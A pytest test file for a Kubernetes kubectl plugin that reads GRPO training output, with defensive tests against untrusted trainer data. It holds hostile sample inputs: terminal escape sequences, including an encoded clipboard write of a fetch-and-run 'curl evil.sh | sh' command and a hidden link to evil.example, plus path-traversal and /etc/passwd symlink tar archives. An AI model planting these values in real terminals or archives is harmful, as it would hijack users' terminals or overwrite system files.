"""The pure parts of `kubectl grpo`: parsing what the trainer writes, choosing samples, the reader pod's
manifest, and the text a user reads. The plugin against a cluster is tested in
tests/integration/test_kubectl_plugin.py."""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import tarfile
import time
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from grpo_operator.api.status import NO_CONTROL_PATTERN, ProgressStatus
from grpo_operator.kubectl_plugin import cli, data, render
from grpo_operator.kubectl_plugin.errors import BadData, PluginError
from grpo_operator.kubectl_plugin.output import out, where
from grpo_operator.kubectl_plugin.volume import HostPathTransport, extract_tar, reader_pod, running_trainer
from pydantic import ValidationError

REPO = Path(__file__).resolve().parents[2]


def test_the_package_installs_the_kubectl_grpo_executable() -> None:
    scripts = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["scripts"]
    assert scripts["kubectl-grpo"] == "grpo_operator.kubectl_plugin.cli:main"


def test_sparkline_scales_between_min_and_max_and_fits_the_width() -> None:
    assert render.sparkline([0.0, 0.5, 1.0]) == "▁▅█"
    assert render.sparkline([0.2, None, 0.4]) == "▁ █"
    assert render.sparkline([0.0, 0.0]) == "▁▁"  # flat, e.g. no format failures: not a middle bar
    long = render.sparkline([float(i) for i in range(500)], width=40)
    assert len(long) <= 40 and long[0] == "▁" and long[-1] == "█"
    assert render.sparkline([]) == ""


def sample(step: int, prompt: str, reward: float | None, split: str = "train") -> dict[str, Any]:
    return {"step": step, "split": split, "prompt": prompt, "completion": f"c{reward}", "reward": reward}


def test_a_half_written_last_line_is_left_for_the_next_read() -> None:
    chunk = '{"step": 1}\n{"step": 2}\n{"ste'
    head, used = data.complete_lines(chunk)
    assert data.parse_jsonl(head) == [{"step": 1}, {"step": 2}]
    assert used == len('{"step": 1}\n{"step": 2}\n')
    assert data.parse_jsonl(chunk) == [{"step": 1}, {"step": 2}]


def test_checkpoints_list_step_dirs_in_order_and_mark_the_manifests() -> None:
    found = data.checkpoints(["step-10", ".partial", "step-5", "latest.json", "step-x"], {"step": 10})
    assert [(c.step, c.latest, c.path) for c in found] == [
        (5, False, "/workspace/checkpoints/step-5"),
        (10, True, "/workspace/checkpoints/step-10"),
    ]


def test_samples_text_groups_completions_under_their_prompt_with_rewards() -> None:
    text = render.samples_text(
        [
            {**sample(3, "What is 2+2?", 1.0), "completion": "4\nbecause", "advantage": 1.2},
            {**sample(3, "What is 2+2?", -1.0), "completion": "four?", "formatFailure": True},
        ]
    )
    assert text.splitlines() == [
        "── step 3 · train ──",
        "PROMPT",
        "  │ What is 2+2?",
        "GROUP  2 completions  mean +0.0000  std 1.0000",
        "  reward +1.0000  advantage +1.200",
        "    │ 4",
        "    │ because",
        "  reward -1.0000  FORMAT FAILURE",
        "    │ four?",
    ]


def test_status_text_without_a_trend_says_why() -> None:
    report = {
        "name": "j",
        "namespace": "ns",
        "status": {
            "phase": "Pending",
            "reason": "Unschedulable",
            "progress": {"step": 0, "totalSteps": 10, "display": "0/10"},
            "restarts": 1,
            "conditions": [
                {"type": "Scheduled", "status": "False", "reason": "Unschedulable", "message": "no GPU"}
            ],
        },
        "trendUnavailable": "you may not create pods/exec",
        "restartEvents": [
            {"time": "2026-01-01T00:00:00Z", "reason": "Restarting", "message": "rank 0 exited 137"}
        ],
        "waiting": ["pod j-trainer-1-0: Unschedulable: 0/3 nodes have free nvidia.com/gpu"],
    }
    text = render.status_text(report)
    assert "Phase           Pending (Unschedulable)" in text
    assert "Step            0/10" in text
    assert "(no trend: you may not create pods/exec)" in text
    assert "Restarts        1\n  2026-01-01T00:00:00Z  Restarting: rank 0 exited 137" in text
    assert "Waiting on\n  pod j-trainer-1-0: Unschedulable: 0/3 nodes have free nvidia.com/gpu" in text
    assert "  Scheduled   False    Unschedulable   no GPU" in text
    assert "Checkpoint      none yet" in text


JOB = {"metadata": {"name": "tiny", "namespace": "ns", "uid": "u-1"}, "spec": {}}


def trainer_pod(node: str | None, phase: str = "Running") -> dict[str, Any]:
    return {
        "metadata": {"name": "tiny-trainer-1-0", "labels": {"grpo.dev/node-rank": "0"}},
        "spec": {"nodeName": node, "securityContext": {"runAsUser": 1234, "runAsGroup": 55, "fsGroup": 77}},
        "status": {"phase": phase},
    }


def test_reader_pod_mounts_the_claim_read_only_beside_a_running_trainer() -> None:
    trainer = running_trainer([trainer_pod("gpu-node-1")])
    pod = reader_pod(JOB, "busybox:1.37.0", 600, trainer)
    spec = pod["spec"]
    assert spec["nodeName"] == "gpu-node-1"
    assert spec["volumes"] == [
        {"name": "workspace", "persistentVolumeClaim": {"claimName": "tiny-ckpt", "readOnly": True}}
    ]
    assert spec["containers"][0]["volumeMounts"][0] == {
        "name": "workspace",
        "mountPath": "/workspace",
        "readOnly": True,
    }
    assert spec["securityContext"]["runAsUser"] == 1234 and spec["securityContext"]["supplementalGroups"] == [
        77
    ]
    assert spec["activeDeadlineSeconds"] == 600 and spec["containers"][0]["command"] == ["sleep", "600"]
    # The operator treats pods labelled grpo.dev/job as the job's children; the reader must not be one.
    assert "grpo.dev/job" not in pod["metadata"]["labels"]
    assert pod["metadata"]["ownerReferences"][0]["uid"] == "u-1"


def test_reader_pod_of_a_finished_job_is_left_to_the_scheduler_and_uses_an_existing_claim() -> None:
    assert running_trainer([trainer_pod("gpu-node-1", "Succeeded"), trainer_pod(None, "Pending")]) is None
    job = {**JOB, "spec": {"checkpoints": {"volume": {"existingClaim": "shared"}}}}
    pod = reader_pod(job, "img", 60, None)
    assert "nodeName" not in pod["spec"]
    assert pod["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] == "shared"
    assert pod["spec"]["securityContext"]["runAsUser"] == 65532


def test_host_path_transport_reads_from_an_offset_and_copies_trees(tmp_path: Path) -> None:
    (tmp_path / "output" / "model").mkdir(parents=True)
    (tmp_path / "output" / "samples.jsonl").write_text("abcdef")
    (tmp_path / "output" / "model" / "config.json").write_text("{}")
    volume = HostPathTransport(tmp_path)
    assert volume.read("/workspace/output/samples.jsonl", 2) == b"cdef"
    assert volume.read("/workspace/output/none") is None
    assert volume.list_dir("/workspace/output") == ["model", "samples.jsonl"]
    volume.copy_out("/workspace/output/model", tmp_path / "out")
    assert (tmp_path / "out" / "config.json").read_text() == "{}"


def pod(name: str, attempt: int, rank: int | None = None) -> dict[str, Any]:
    labels = {"grpo.dev/attempt": str(attempt)}
    if rank is not None:
        labels["grpo.dev/node-rank"] = str(rank)
    return {"metadata": {"name": name, "labels": labels}}


def test_logs_pick_the_current_attempts_pod_of_the_rank() -> None:
    pods = [pod("t-1-0", 1, 0), pod("t-2-1", 2, 1), pod("t-2-0", 2, 0)]
    assert cli.pick_pod(pods, "trainer", 0)["metadata"]["name"] == "t-2-0"  # type: ignore[index]
    assert cli.pick_pod(pods, "trainer", 3) is None
    assert cli.pick_pod([pod("m-b", 0), pod("m-a", 0)], "metric", 1)["metadata"]["name"] == "m-b"  # type: ignore[index]
    # A replaced vLLM pod stays for its log: index 0 is the server in use, 1 the failed one before it.
    generation = [pod("j-gen-1-9", 1), pod("j-gen-2-0", 2), pod("j-gen-2-10", 2), pod("j-gen-2-2", 2)]
    assert [cli.pick_pod(generation, "generation", i)["metadata"]["name"] for i in range(3)] == [  # type: ignore[index]
        "j-gen-2-10",
        "j-gen-2-2",
        "j-gen-2-0",
    ]


def test_bad_arguments_exit_2_with_usage(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        cli.main(["samples", "j", "--best", "--worst"])
    assert exit_.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err


def test_an_unreadable_kubeconfig_is_explained(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["status", "j", "--kubeconfig", str(tmp_path / "missing")]) == 1
    err = capsys.readouterr().err
    assert "cannot load the kubeconfig" in err and "--kubeconfig" in err


def test_plot_writes_a_png(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from grpo_operator.kubectl_plugin.plot import plot_rows

    rows = [
        {"step": 1, "reward_mean": 0.1, "reward_std": 0.05},
        {"step": 2, "reward_mean": 0.3, "validation_mean": 0.2},
    ]
    out = plot_rows(rows, tmp_path / "r.png", "t")
    assert out.read_bytes()[:4] == b"\x89PNG"


def test_status_text_draws_the_trends_from_the_per_step_record() -> None:
    report = {
        "name": "j",
        "namespace": "ns",
        "status": {"phase": "Running", "progress": {"display": "4/10"}},
        "trend": {
            "steps": [1, 2, 3, 4],
            "reward": [0.0, 0.25, 0.5, 1.0],
            "formatFailureRatio": [0.5, 0.25, 0.0, 0.0],
            "validation": [None, 0.2, None, 0.4],
        },
    }
    lines = render.status_text(report).splitlines()
    assert "Reward          1.0000  ▁▃▅█  (first 0.0000, min 0.0000, max 1.0000)" in lines
    assert "Format failures 0.0%  █▅▁▁  (first 50.0%, min 0.0%, max 50.0%)" in lines
    # Validation runs every few steps: its points side by side, without the gaps between them.
    assert "Validation      0.4000  ▁█  (first 0.2000, min 0.2000, max 0.4000)" in lines


# -- what the tenant's trainer image writes is untrusted ----------------------------------------------

ATTACKS = {
    "clear screen": "\x1b[2J",
    "window title (OSC 0)": "\x1b]0;owned\x07",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hidden link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "CSI as the C1 byte 0x9b": "\x9b2J",
    "bell": "\x07",
    "delete": "\x7f",
    "carriage return over the line": "ok\rEVIL",
}


def acted_on(text: str) -> set[str]:
    """The characters in ``text`` a terminal would act on rather than print."""
    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}


def hostile_volume(root: Path, lines: list[str]) -> HostPathTransport:
    (root / "output").mkdir(parents=True, exist_ok=True)
    (root / "output" / "samples.jsonl").write_text("".join(line + "\n" for line in lines))
    return HostPathTransport(root)


def samples_args(output: str | None = None, **kw: Any) -> argparse.Namespace:
    defaults = {
        "output": output,
        "follow": False,
        "step": None,
        "order": None,
        "limit": None,
        "recent": data.DEFAULT_RECENT_STEPS,
        "split": "train",
    }
    return argparse.Namespace(**{**defaults, **kw})


HOSTILE_JOB = {
    "metadata": {"name": "j", "namespace": "ns", "uid": "u"},
    "status": {"phase": "Running", "progress": {"display": "\x1b]0;title\x07"}},
}


@pytest.mark.parametrize("output", [None, "json", "yaml"])
def test_samples_escape_terminal_controls_in_every_format(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], output: str | None
) -> None:
    payload = "".join(ATTACKS.values())
    record = {"step": 1, "split": "train", "prompt": payload, "completion": payload, "reward": 1.0}
    volume = hostile_volume(tmp_path, [json.dumps(record, ensure_ascii=False)])
    assert cli.print_samples(volume, HOSTILE_JOB, samples_args(output), lambda: True) == 0
    shown = capsys.readouterr().out
    assert acted_on(shown) == set(), f"{output}: raw controls {acted_on(shown)}"
    if output != "yaml":  # YAML writes its own escapes (\\e, \\x9B) in a double-quoted string
        assert "\\u001b]52;c;" in shown and "\\u009b2J" in shown and "\\u007f" in shown
    # The escape is the JSON and YAML one too: the data reads back unchanged.
    if output == "json":
        assert json.loads(shown)[0]["completion"] == payload
    if output == "yaml":
        assert yaml.safe_load(shown)[0]["completion"] == payload


def test_follow_json_and_status_text_and_errors_escape_controls(capsys: pytest.CaptureFixture[str]) -> None:
    cli.show([{"completion": "\x9b2J\x1b[2J"}], samples_args("json", follow=True), follow=True)
    line = capsys.readouterr().out
    assert acted_on(line) == set() and json.loads(line)["completion"] == "\x9b2J\x1b[2J"
    report = {"name": "j", "namespace": "ns", "status": HOSTILE_JOB["status"], "trendUnavailable": "\x1b[2J"}
    out(render.status_text(report))
    # status.progress.display reaches error messages too (where()).
    cli.report(PluginError(where(HOSTILE_JOB)))
    seen = capsys.readouterr()
    assert acted_on(seen.out + seen.err) == set()
    assert "Step            \\u001b]0;title\\u0007" in seen.out and "\\u001b]0;title" in seen.err


def test_terminal_safe_leaves_text_newlines_and_tabs() -> None:
    text = "Première ligne\n\tdeux — 2+2=4 ✓"
    assert render.terminal_safe(text) == text
    for name, attack in ATTACKS.items():
        assert acted_on(render.terminal_safe(attack)) == set(), name


# -- status.progress.display: the API server refuses control characters ------------------------------


def test_progress_display_refuses_control_characters_in_the_model_and_the_crd() -> None:
    assert ProgressStatus(display="12/500").display == "12/500"
    for attack in ATTACKS.values():
        with pytest.raises(ValidationError, match="display"):
            ProgressStatus(display=attack)
    crd = yaml.safe_load((REPO / "crds" / "grpo.dev_grpojobs.yaml").read_text())
    schema = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    display = schema["properties"]["status"]["properties"]["progress"]["properties"]["display"]
    assert display["pattern"] == NO_CONTROL_PATTERN and display["maxLength"] == 64
    # The pattern text uses only \xHH escapes and a negated class, which RE2 reads as Python does.
    assert re.fullmatch(display["pattern"], "7/10") and not re.search(display["pattern"], "7\x9b/10")


# -- bounded reads --------------------------------------------------------------------------------


def test_a_200_mb_samples_line_is_skipped_in_seconds_with_a_notice(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "output").mkdir()
    good = json.dumps({"step": 2, "split": "train", "prompt": "p", "completion": "fine", "reward": 0.5})
    big = 200 * 1000 * 1000
    mid = json.dumps({"step": 2, "split": "train", "prompt": "p", "completion": "also", "reward": 0.1})
    with (tmp_path / "output" / "samples.jsonl").open("wb") as handle:
        handle.write(b'{"step": 2, "split": "train", "prompt": "p", "completion": "')
        handle.seek(big)  # sparse: the file reads as 200 MB of NUL bytes without writing them
        handle.write(b'"}\n' + mid.encode() + b"\n" + b'{"completion": "' + b"a" * (30 << 20) + b'"}\n')
        handle.write(good.encode() + b"\n")
    started = time.monotonic()
    assert cli.print_samples(HostPathTransport(tmp_path), JOB, samples_args(), lambda: True) == 0
    elapsed = time.monotonic() - started
    seen = capsys.readouterr()
    assert elapsed < 10, elapsed
    assert "only its newest 67.1 MB are read" in seen.err
    assert "skipped a line of /workspace/output/samples.jsonl of 31.5 MB" in seen.err
    assert "… [truncated 31457298 bytes]" in seen.err
    assert "│ fine" in seen.out


def test_a_long_completion_is_wrapped_in_linear_time_and_cut_with_a_notice() -> None:
    completion = "x" * 900_000  # one "word": textwrap slices it again for every line it emits
    started = time.monotonic()
    text = render.samples_text([{**sample(1, "p", 1.0), "completion": completion}])
    assert time.monotonic() - started < 2
    lines = text.splitlines()
    assert all(len(line) <= 100 for line in lines[:-1])
    assert lines[-1].endswith(f"… [truncated {900_000 - render.TEXT_LIMIT} bytes]")


def test_the_scanner_keeps_a_line_split_across_chunks_and_drops_only_over_long_ones() -> None:
    scanner = data.JsonlScanner("f", line_limit=32)
    got = scanner.feed(b'{"step": 1}\n{"st') + scanner.feed(b'ep": 2}\n{"x": "' + b"y" * 64)
    got += scanner.feed(b'"}\n{"step": 3}') + scanner.finish()
    assert got == [{"step": 1}, {"step": 2}, {"step": 3}]
    assert scanner.summary() == [
        "skipped a line of f of 73 bytes, more than the 32 bytes a record may have (… [truncated 73 bytes])"
    ]


# -- never a traceback ------------------------------------------------------------------------------


@pytest.mark.parametrize("manifest", [b"{not json", b"[1, 2]", b'{"step": "ten"}', b"\xff\xfe" + b"9" * 5000])
def test_a_malformed_manifest_is_bad_data_with_exit_5(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], manifest: bytes
) -> None:
    (tmp_path / "checkpoints" / "step-3").mkdir(parents=True)
    (tmp_path / "checkpoints" / "latest.json").write_bytes(manifest)
    with pytest.raises(BadData) as caught:
        cli.checkpoint_listing(HostPathTransport(tmp_path))
    assert cli.report(caught.value) == 5
    err = capsys.readouterr().err
    assert err.startswith("kubectl grpo: bad data: /workspace/checkpoints/latest.json is not")
    assert err.count("\n") == 1 and "kubectl grpo logs" in err


def test_malformed_metrics_and_samples_are_skipped_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_volume(
        tmp_path,
        [
            '{"step": "abc", "split": "train", "reward": 1}',
            '{"step": [1], "split": "train"}',
            '{"step": 4, "split": "train", "prompt": {"a": 1}, "reward": 1e999, "advantage": "x"}',
            '{"step": 4, "split": "train", "prompt": "q", "reward": 123456789' + "0" * 400 + "}",
            "[" * 100_000,
            "not json",
        ],
    )
    assert cli.print_samples(HostPathTransport(tmp_path), JOB, samples_args(), lambda: True) == 0
    seen = capsys.readouterr()
    assert "reward - (not scored)" in seen.out and "── step 4 · train ──" in seen.out
    assert "skipped 2 line(s) of /workspace/output/samples.jsonl that are not JSON objects" in seen.err
    rows: list[dict[str, Any]] = [
        {"step": "x", "reward_mean": "y"},
        {"step": 2, "reward_mean": 10**400, "reward_std": float("nan")},
    ]
    assert render.rewards_text(rows).splitlines()[1:3] == [
        "-      -        -     -             -           -",
        "2      -        -     -             -           -",
    ]


def write_tar(path: Path, build: Callable[[tarfile.TarFile], None]) -> Path:
    with tarfile.open(path, "w") as archive:
        build(archive)
    return path


def add(archive: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    archive.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)


@pytest.mark.parametrize(
    ("members", "why"),
    [
        ([("../escape", tarfile.REGTYPE, "")], "has a path that leaves the directory"),
        ([("/etc/cron.d/x", tarfile.REGTYPE, "")], "has a path that leaves the directory"),
        ([("passwd", tarfile.SYMTYPE, "/etc/passwd")], "is a symbolic link to '/etc/passwd'"),
        ([("up", tarfile.SYMTYPE, "sub/../..")], "is a symbolic link to 'sub/../..'"),
        ([("dir", tarfile.SYMTYPE, "d"), ("dir/file", tarfile.REGTYPE, "")], "lies under a symbolic link"),
        ([("hard", tarfile.LNKTYPE, "config.json")], "is a hard link to 'config.json'"),
        ([("fifo", tarfile.FIFOTYPE, "")], "is a device, pipe or other special file"),
    ],
)
def test_a_hostile_tar_is_refused_member_by_member(
    tmp_path: Path, members: list[tuple[str, bytes, str]], why: str
) -> None:
    def build(archive: tarfile.TarFile) -> None:
        for member in members:
            add(archive, *member)

    tar = write_tar(tmp_path / "t.tar", build)
    dest = tmp_path / "dest"
    dest.mkdir()
    with tar.open("rb") as stream, pytest.raises(BadData, match=re.escape(why)) as caught:
        extract_tar(stream, dest, "/workspace/output/model")
    assert caught.value.exit_code == 5
    assert not (tmp_path / "escape").exists() and not (tmp_path / "etc").exists()


def test_non_tar_data_is_bad_data_and_a_clean_tar_extracts(tmp_path: Path) -> None:
    with pytest.raises(BadData, match="not a readable tar archive"):
        extract_tar(io.BytesIO(b"\x1b]0;not a tar\x07" * 100), tmp_path, "/workspace/output/model")

    def clean(archive: tarfile.TarFile) -> None:
        add(archive, "sub", tarfile.DIRTYPE)
        add(archive, "sub/config.json")
        add(archive, "alias.json", tarfile.SYMTYPE, "sub/config.json")

    tar = write_tar(tmp_path / "ok.tar", clean)
    dest = tmp_path / "dest"
    dest.mkdir()
    with tar.open("rb") as stream:
        extract_tar(stream, dest, "/workspace/output/model")
    assert (dest / "sub" / "config.json").is_file() and os.readlink(dest / "alias.json") == "sub/config.json"


# -- no transport follows a link out of the volume -----------------------------------------------------


def test_host_path_transport_refuses_links_out_of_the_volume(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the user's own file")
    root = tmp_path / "volume"
    (root / "output" / "model").mkdir(parents=True)
    (root / "output" / "metrics.jsonl").symlink_to(secret)
    (root / "checkpoints").symlink_to("/etc")
    (root / "output" / "model" / "passwd").symlink_to("/etc/passwd")
    volume = HostPathTransport(root)
    with pytest.raises(BadData, match="outside the volume"):
        volume.size("/workspace/output/metrics.jsonl")
    with pytest.raises(BadData, match="outside the volume"):
        volume.list_dir("/workspace/checkpoints")
    dest = tmp_path / "export"
    with pytest.raises(BadData, match="'passwd' is a symbolic link to '/etc/passwd'"):
        volume.copy_out("/workspace/output/model", dest)
    assert not (dest / "passwd").exists() or (dest / "passwd").is_symlink()  # never its contents


def test_host_path_transport_does_not_hang_on_a_named_pipe(tmp_path: Path) -> None:
    (tmp_path / "output").mkdir()
    os.mkfifo(tmp_path / "output" / "samples.jsonl")
    assert HostPathTransport(tmp_path).read("/workspace/output/samples.jsonl") is None
    (tmp_path / "output" / "model").mkdir()
    os.mkfifo(tmp_path / "output" / "model" / "weights.bin")
    with pytest.raises(BadData, match="special file"):
        HostPathTransport(tmp_path).copy_out("/workspace/output/model", tmp_path / "out")


def test_rewards_show_a_column_per_reward_component_and_only_well_formed_names() -> None:
    rows: list[dict[str, Any]] = [
        {"step": 1, "reward_mean": 0.5, "reward_components": {"accuracy": 0.25, "\x1b[2Jevil": 1.0}},
        {"step": 2, "reward_mean": 0.75, "reward_components": {"accuracy": 0.5, "format": 1.0}},
        {"step": 3, "reward_mean": 0.8, "reward_components": "not a dict"},
    ]
    lines = render.rewards_text(rows).splitlines()
    assert "\x1b" not in "\n".join(lines) and "EVIL" not in lines[0]
    assert lines[:4] == [
        "STEP   REWARD   STD   FORMAT-FAIL   NO-SIGNAL   TRUNCATED   VALIDATION   ACCURACY   FORMAT",
        "1      0.5000   -     -             -           -                        0.2500",
        "2      0.7500   -     -             -           -                        0.5000     1.0000",
        "3      0.8000   -     -             -           -",
    ]


def test_status_text_shows_what_the_job_used_of_its_plan() -> None:
    cost = {
        "rollouts": 1234,
        "rolloutsPlanned": 16000,
        "metricCalls": 1300,
        "metricCallsPlanned": 16640,
        "generationGpuSeconds": 1800.0,
        "trainingGpuSeconds": 7200.0,
    }
    text = render.status_text({"name": "j", "namespace": "ns", "status": {"rollouts": 16000, "cost": cost}})
    assert "Rollouts        1,234 of 16,000 (R)" in text
    assert "Metric calls    1,300 of 16,640" in text
    assert "GPU time        generation 30.0 GPU-min, training 2.00 GPU-h" in text
    # Before the trainer reports, the operator's planned R alone; a malformed cost is not shown.
    early = render.status_text({"name": "j", "namespace": "ns", "status": {"rollouts": 96, "cost": "x"}})
    assert "Rollouts        96 (R)" in early and "Metric calls" not in early


def test_status_text_shows_the_staleness_of_an_asynchronous_job() -> None:
    staleness = {"maxStaleness": 2, "last": 1, "policyVersion": 40, "overlapRatio": 0.62, "groupsDropped": 4}
    text = render.status_text({"name": "j", "namespace": "ns", "status": {"staleness": staleness}})
    line = "Staleness       1 step(s) (maxStaleness 2), sampling overlapped 62.0% of the last step, 4 group(s) dropped"
    assert line in text
    # A synchronous job has no such line, and a malformed one is not shown.
    for status in ({}, {"staleness": "x"}):
        assert "Staleness" not in render.status_text({"name": "j", "namespace": "ns", "status": status})


def test_status_text_says_how_many_vllm_replicas_serve() -> None:
    served = {"weightSync": "volume", "inSync": True, "replicas": 2, "replicasServing": 1}
    text = render.status_text({"name": "j", "namespace": "ns", "status": {"servedModel": served}})
    assert "vLLM replicas   1 of 2 serving the trained weights" in text
    # One server (no replica counts), or counts that are not counts: no line.
    for model in (
        {"inSync": True},
        {"replicas": True, "replicasServing": 1},
        {"replicas": 2, "replicasServing": -1},
    ):
        status = {"servedModel": model}
        assert "vLLM replicas" not in render.status_text({"name": "j", "namespace": "ns", "status": status})
